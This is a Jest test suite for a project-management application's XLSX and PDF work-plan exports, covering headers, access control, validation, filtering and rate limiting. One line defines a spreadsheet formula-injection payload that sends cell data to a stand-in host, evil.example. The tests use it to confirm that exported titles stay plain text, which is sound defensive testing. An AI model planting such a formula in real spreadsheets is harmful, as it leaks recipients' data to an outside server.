import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Problem } from '@office/contracts';
import { readXlsx } from 'hucre';
import { extractText, getDocumentProxy } from 'unpdf';
import { openOffice, type TestOffice } from '../support/office.js';
import { addPerson, signIn } from '../support/people.js';
import { importStrive, type Member, type TestProject } from '../support/project.js';
import { zipEntries } from '../support/zip-entries.js';

const EVIL = '=WEBSERVICE("http://evil.example/"&A1)';

let office: TestOffice;
let strive: TestProject;
let qui: Member;
let observer: Member;

beforeAll(async () => {
  office = await openOffice({ PUBLIC_URL: 'https://office.example' });
  strive = await importStrive(office);
  qui = await strive.addMember('qui@university.example', ['partner-coordinator'], 'QUI');
  observer = await strive.addMember('observer@agency.example', ['observer'], null);
  await office.sql(`UPDATE task SET title = $1 WHERE number = 'T4.4'`, [EVIL]);
});
afterAll(() => office.close());

const numbersOf = async (query: string): Promise<unknown[]> => {
  const book = await readXlsx((await qui.request(`work-plan/export.xlsx${query}`)).rawPayload);
  return book.sheets.flatMap(({ name, rows }) => (name === 'Timeline' ? rows.slice(3) : []).map(([number]) => number));
};
const textOf = async (query: string): Promise<string> => {
  const answer = await qui.request(`work-plan/export.pdf${query}`);
  return (await extractText(await getDocumentProxy(new Uint8Array(answer.rawPayload)), { mergePages: true })).text;
};

describe.each([
  ['xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'PK'],
  ['pdf', 'application/pdf', '%PDF-1.7'],
])('the work plan as %s', (ending, type, beginning) => {
  const path = `work-plan/export.${ending}`;

  it('is a file to be saved, by a name that says what and of when', async () => {
    const answer = await qui.request(path, { headers: { 'accept-encoding': 'br, gzip' } });
    expect(answer.statusCode).toBe(200);
    expect(answer.headers).toMatchObject({
      'content-type': type,
      'content-disposition': `attachment; filename="STRIVE-work-plan-2024-09-16.${ending}"`,
      'content-length': String(answer.rawPayload.byteLength),
      'cache-control': 'private, no-store',
      'x-content-type-options': 'nosniff',
      'content-security-policy': 'sandbox',
    });
    expect(answer.headers['content-encoding']).toBeUndefined();
    expect(answer.rawPayload.toString('latin1')).toMatch(new RegExp(`^${beginning}`));
  });

  it('is for all who may read the plan, and for nobody else', async () => {
    expect((await observer.request(path)).statusCode).toBe(200);
    const url = `/api/projects/${strive.projectId}/${path}`;
    expect((await office.app.inject({ url })).statusCode).toBe(401);
    await addPerson(office, `stranger.${ending}@university.example`);
    const cookie = await signIn(office, `stranger.${ending}@university.example`);
    expect((await office.app.inject({ url, headers: { cookie } })).statusCode).toBe(404);
  });

  it.each([
    ['year=first', 'year'],
    ['year=0', 'year'],
    ['state=unheard', 'state'],
    ['partner=A&partner=B', 'partner'],
    [`q=${'x'.repeat(101)}`, 'q'],
    ['colour=red', 'colour'],
  ])('refuses %s', async (query, field) => {
    const answer = await qui.request(`${path}?${query}`);
    expect(answer.statusCode).toBe(422);
    expect(answer.json<Problem>()).toMatchObject({
      code: 'validation-failed',
      errors: expect.arrayContaining([expect.objectContaining({ path: field })]),
    });
  });
});

describe('the filter', () => {
  it.each([
    ['?wp=WP2&year=1&state=late', ['WP2', 'T2.1', 'D2.1']],
    ['?partner=&q=&state=&wp=WP4&year=', expect.arrayContaining(['WP4', 'T4.1', 'T4.4'])],
    ['?q=nothing+is+called+so', []],
  ])('%s', async (query, numbers) => {
    expect(await numbersOf(query)).toEqual(numbers);
  });

  it('is the same for both files, and said on paper', async () => {
    const text = await textOf(`?partner=${encodeURIComponent('UÉ')}&year=1`);
    expect(text).toContain('Only project year 1, partner UÉ');
    for (const number of await numbersOf(`?partner=${encodeURIComponent('UÉ')}&year=1`)) expect(text).toContain(String(number));
  });
});

it('a title that looks like a formula is text', async () => {
  const parts = zipEntries((await qui.request('work-plan/export.xlsx?wp=WP4')).rawPayload);
  const sheets = [...parts].filter(([name]) => name.startsWith('xl/worksheets/')).map(([, xml]) => xml);
  expect(sheets.join('')).not.toMatch(/<f[ >]/);
  expect(parts.get('xl/sharedStrings.xml')).toContain('=WEBSERVICE(');
});

it('numbers lead to their rows at the address that people type', async () => {
  const parts = zipEntries((await qui.request('work-plan/export.xlsx')).rawPayload);
  expect(parts.get('xl/worksheets/_rels/sheet1.xml.rels')).toContain(`https://office.example/p/${strive.projectId}/work-plan?row=T4.4`);
});

it('makes one at a time for each person', async () => {
  const answers = await Promise.all([
    qui.request('work-plan/export.pdf'),
    qui.request('work-plan/export.pdf'),
    observer.request('work-plan/export.pdf'),
  ]);
  expect(answers.map(({ statusCode }) => statusCode).sort()).toEqual([200, 200, 429]);
  expect(answers[2].statusCode).toBe(200);
});
